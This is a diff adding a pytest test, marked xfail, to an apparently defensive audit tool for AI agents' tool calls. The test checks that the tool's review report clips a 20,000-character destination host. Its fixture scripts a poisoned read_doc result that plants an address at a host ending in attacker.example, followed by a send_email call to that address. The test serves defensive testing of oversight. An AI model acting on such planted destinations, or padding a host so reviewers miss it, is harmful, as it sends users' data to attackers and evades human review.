@@ -244,3 +244,43 @@ async def test_suggest_names_the_url_its_sink_params_leave_out(harness: Harness)
     ]
     assert said and any("URL" in line for line in said), r.stdout
     assert any("denied" in line for line in said), r.stdout
+
+
+@pytest.mark.xfail(strict=True, reason="the review pack prints a long destination whole")
+async def test_review_pack_clips_a_flood_destination(harness: Harness) -> None:
+    """A destination of 20,000 characters (a host of many labels a poisoned result planted)
+    is one cell of the pack: whole, it pushes the count and the rule out of sight (a table
+    that scrolls sideways). Its start and its end (the registered domain) are shown, the cut
+    said, in the Markdown and in the HTML pack."""
+    host = ".".join(["b" * 60] * 330) + ".attacker.example"
+    script = {
+        "tools/list": {
+            "result": {
+                "tools": [
+                    {"name": "read_doc", "description": "Read.", "inputSchema": {"type": "object"}},
+                    {
+                        "name": "send_email",
+                        "description": "Send.",
+                        "inputSchema": {
+                            "type": "object",
+                            "properties": {"to": {"type": "string"}, "body": {"type": "string"}},
+                        },
+                    },
+                ]
+            }
+        },
+        "tools/call:read_doc": {"result": {"content": [{"type": "text", "text": f"x@{host}"}]}},
+        "tools/call:send_email": {"result": {"content": [{"type": "text", "text": "sent"}]}},
+    }
+    calls = [("read_doc", {}), ("send_email", {"to": f"x@{host}", "body": "hi"})]
+    await _calls(_scripted(harness, script), calls)
+    pack, page = harness.tmp / "pack.md", harness.tmp / "pack.html"
+    argv = ["report", "--audit", str(harness.audit), "-o", str(pack), "--html", str(page)]
+    r = run_cordon(harness.home, *argv)
+    assert r.returncode == 0, r.stderr
+    md, html = pack.read_text("utf-8"), page.read_text("utf-8")
+    (row,) = [line for line in md.splitlines() if "attacker" in line]
+    assert len(row) < 1000 and "characters not shown" in row, len(row)
+    assert "attacker.example" in row.replace("\\", "")
+    cells = re.findall(r"<td>([^<]*attacker[^<]*)</td>", html)
+    assert cells and all(len(c) < 1000 and "characters not shown" in c for c in cells), cells
